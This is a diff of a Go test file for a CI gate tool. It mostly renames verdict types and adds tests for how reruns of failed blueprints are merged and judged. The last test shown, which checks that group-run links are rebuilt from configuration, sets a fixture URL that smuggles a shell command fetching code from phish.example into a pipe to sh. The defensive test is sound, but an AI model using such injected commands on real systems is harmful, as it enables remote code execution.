@@ -145,7 +145,7 @@ func TestIdentityComesFromTheTrigger(t *testing.T) {
 				if tr := api.triggered(); len(tr) != 1 {
 					t.Errorf("triggers %v: a disputed run must not be rerun, and no other blueprint triggered", tr)
 				}
-				if v := out.Set.Tally().Verdict; v == result.Passed {
+				if v := judge(out).Outcome; v == result.Passed {
 					t.Errorf("verdict %s", v)
 				}
 			})
@@ -167,7 +167,7 @@ func TestSeveralRunsOfOneBlueprint(t *testing.T) {
 	if len(runs) != 2 || runs["blueprint 180, run 1000"].Verdict != result.Failed || runs["blueprint 180, run 1001"].Verdict != result.Passed {
 		t.Fatalf("runs = %v", out.Set.Runs)
 	}
-	if v := out.Set.Tally().Verdict; v != result.Failed {
+	if v := judge(out).Outcome; v != result.Failed {
 		t.Errorf("verdict %s, want failed", v)
 	}
 }
@@ -181,7 +181,7 @@ func TestRerunOfASharedBlueprint(t *testing.T) {
 		name        string
 		rerunRuns   []docketqa.TestRun
 		answers     map[int64]docketqa.TestRun
-		wantVerdict result.Verdict
+		wantVerdict result.Outcome
 		wantRuns    int
 	}{
 		{
@@ -213,9 +213,9 @@ func TestRerunOfASharedBlueprint(t *testing.T) {
 			if tr := api.triggered(); len(tr) != 2 || !slices.Equal(tr[1], []int64{180}) {
 				t.Errorf("triggers = %v, want [[180] [180]]", tr)
 			}
-			tally := out.Set.Tally()
-			if tally.Verdict != tc.wantVerdict || len(out.Set.Runs) != tc.wantRuns {
-				t.Fatalf("verdict %s with %d runs, want %s with %d: %+v", tally.Verdict, len(out.Set.Runs), tc.wantVerdict, tc.wantRuns, out.Set.Runs)
+			tally := judge(out)
+			if tally.Outcome != tc.wantVerdict || len(out.Set.Runs) != tc.wantRuns {
+				t.Fatalf("verdict %s with %d runs, want %s with %d: %+v", tally.Outcome, len(out.Set.Runs), tc.wantVerdict, tc.wantRuns, out.Set.Runs)
 			}
 			first := out.Set.Runs[0]
 			if len(first.Earlier) != 2 || first.Attempts != 3 {
@@ -274,8 +274,8 @@ func TestRerunCap(t *testing.T) {
 	if !rec.has(func(e event.Event) bool { s, ok := e.(event.RerunSkipped); return ok && s.Failed == 3 && s.Max == 2 }) {
 		t.Error("no RerunSkipped event")
 	}
-	if out.Set.Tally().Failed != 3 {
-		t.Errorf("tally = %+v", out.Set.Tally())
+	if judge(out).Tally.Failed != 3 {
+		t.Errorf("tally = %+v", judge(out).Tally)
 	}
 }
 
@@ -307,7 +307,7 @@ func TestTriggerFailureIsReportedOnce(t *testing.T) {
 			n++
 		}
 	}
-	if n != 1 || out.Stop != TriggerFailed || len(out.Set.Runs) != 3 {
+	if n != 1 || out.Stop != result.StopTriggerFailed || len(out.Set.Runs) != 3 {
 		t.Errorf("%d TriggerFailed events, stop %s, %d runs", n, out.Stop, len(out.Set.Runs))
 	}
 }
@@ -320,7 +320,7 @@ func TestDetachTriggersAndRecords(t *testing.T) {
 	cfg := testConfig(180, 181)
 	cfg.Detach = "runs.json"
 	out, _ := runGate(t, cfg, api)
-	if out.Stop != Detached || out.Manifest == nil || api.gets != 0 {
+	if out.Stop != result.StopDetached || out.Manifest == nil || api.gets != 0 {
 		t.Fatalf("stop %s, manifest %+v, %d GETs", out.Stop, out.Manifest, api.gets)
 	}
 	if len(out.Manifest.Runs) != 1 || out.Manifest.Runs[0].RunID != 1000 || !slices.Equal(out.Manifest.MissingBlueprintIDs, []int64{181}) {
@@ -399,8 +399,8 @@ func TestRerunCapBoundary(t *testing.T) {
 		cfg := testConfig(180, 181)
 		cfg.RerunFailed, cfg.RerunMaxFailures = 1, limit
 		out, _ := runGate(t, cfg, api)
-		if tr := api.triggered(); len(tr) != 2 || out.Set.Tally().Verdict != result.Passed {
-			t.Errorf("limit %d: triggers %v, verdict %s", limit, tr, out.Set.Tally().Verdict)
+		if tr := api.triggered(); len(tr) != 2 || judge(out).Outcome != result.Passed {
+			t.Errorf("limit %d: triggers %v, verdict %s", limit, tr, judge(out).Outcome)
 		}
 	}
 }
@@ -430,9 +430,99 @@ func TestFailFastOnlyOnTheLastRerun(t *testing.T) {
 	}
 }
 
-// TestGroupRunLinkIsRebuilt: the group-run link every output carries is
-// built from --dashboard-url and the numeric id, never taken from the
-// manifest, and the Plan and Triggered events say the same.
+// judge is the verdict on out under cfg's default policies.
+func judge(out Outcome) result.Verdict {
+	return result.Judge(out.Set, result.Policy{}, out.Stop)
+}
+
+// TestPartialRerunKeepsTheFailure (issue: a partial rerun erased a known
+// failure): 182 fails; its rerun answer holds two runs for 182, one passes
+// and one never finishes. The blueprint stays failed (exit 1) under every
+// policy, and its run shows the failure and both rerun attempts, the
+// unfinished one as an attempt without verdict.
+func TestPartialRerunKeepsTheFailure(t *testing.T) {
+	t.Parallel()
+	for _, tc := range []struct {
+		name    string
+		timeout time.Duration
+		running map[int64]int
+	}{
+		// The second rerun run is unknown to the API: 404 past the grace.
+		{name: "rerun run never found"},
+		// The second rerun run is still running when the deadline passes.
+		{name: "rerun run still running at the deadline", timeout: 300 * time.Millisecond, running: map[int64]int{2001: 1 << 30}},
+	} {
+		t.Run(tc.name, func(t *testing.T) {
+			t.Parallel()
+			answers := map[int64]docketqa.TestRun{1000: run(1000, 181, "passed"), 1001: run(1001, 182, "failed"), 2000: run(2000, 182, "passed")}
+			if tc.running != nil {
+				answers[2001] = run(2001, 182, "passed")
+			}
+			api := &fakeAPI{
+				groups:  [][]docketqa.TestRun{{run(1000, 181, "running"), run(1001, 182, "running")}, {run(2000, 182, "running"), run(2001, 182, "running")}},
+				answers: answers,
+				running: tc.running,
+			}
+			cfg := testConfig(181, 182)
+			cfg.RerunFailed = 1
+			if tc.timeout > 0 {
+				cfg.Timeout = tc.timeout
+			}
+			out, _ := runGate(t, cfg, api)
+			for _, p := range []result.Policy{{}, {AllowNoVerdict: true}, {AllowMissing: true}, {AllowNoVerdict: true, AllowMissing: true}} {
+				v := result.Judge(out.Set, p, out.Stop)
+				if v.Outcome != result.Failed || v.Exit != result.ExitFailed || v.Tally.Failed != 1 {
+					t.Errorf("policy %+v: %s, exit %d, tally %+v; want failed, exit 1", p, v.Outcome, v.Exit, v.Tally)
+				}
+			}
+			r := byName(out.Set)["blueprint 182"]
+			if r.Verdict != result.Failed || r.RunID != 1001 || len(r.Earlier) != 2 {
+				t.Fatalf("blueprint 182 = %+v, want the failure 1001 with both rerun runs as attempts", r)
+			}
+			verdicts := map[result.Outcome]int64{}
+			for _, a := range r.Earlier {
+				verdicts[a.Verdict] = a.RunID
+			}
+			if verdicts[result.Passed] != 2000 || verdicts[result.Error] != 2001 {
+				t.Errorf("attempts = %+v, want 2000 passed and 2001 without verdict", r.Earlier)
+			}
+		})
+	}
+}
+
+// TestMergeRerun: the rule for one blueprint's rerun, run by run.
+func TestMergeRerun(t *testing.T) {
+	t.Parallel()
+	failed := result.Run{BlueprintID: 1, RunID: 10, Verdict: result.Failed, Attempts: 1}
+	for _, tc := range []struct {
+		name     string
+		next     []result.Outcome
+		replaced bool
+	}{
+		{"all passed", []result.Outcome{result.Passed, result.Passed}, true},
+		{"failed again", []result.Outcome{result.Failed}, true},
+		{"failed again and unfinished", []result.Outcome{result.Failed, result.Error}, true},
+		{"passed and unfinished", []result.Outcome{result.Passed, result.Error}, false},
+		{"unfinished", []result.Outcome{result.Error}, false},
+		{"no run at all", nil, false},
+	} {
+		var next []result.Run
+		for i, o := range tc.next {
+			next = append(next, result.Run{BlueprintID: 1, RunID: int64(20 + i), Verdict: o, Attempts: 1})
+		}
+		got := mergeRerun([]result.Run{failed}, []int64{1}, next)
+		if tc.replaced {
+			if len(got) != len(next) || got[0].RunID != 20 || len(got[0].Earlier) != 1 || got[0].Earlier[0].RunID != 10 {
+				t.Errorf("%s: merge = %+v, want the rerun's runs with the failure as an earlier attempt", tc.name, got)
+			}
+			continue
+		}
+		if len(got) != 1 || got[0].RunID != 10 || got[0].Verdict != result.Failed || len(got[0].Earlier) != len(next) || got[0].Attempts != 1+len(next) {
+			t.Errorf("%s: merge = %+v, want the failure kept with the rerun as attempts", tc.name, got)
+		}
+	}
+}
+
 func TestGroupRunLinkIsRebuilt(t *testing.T) {
 	t.Parallel()
 	const phish = "https://phish.example/x/$(curl${IFS}phish.example|sh)"
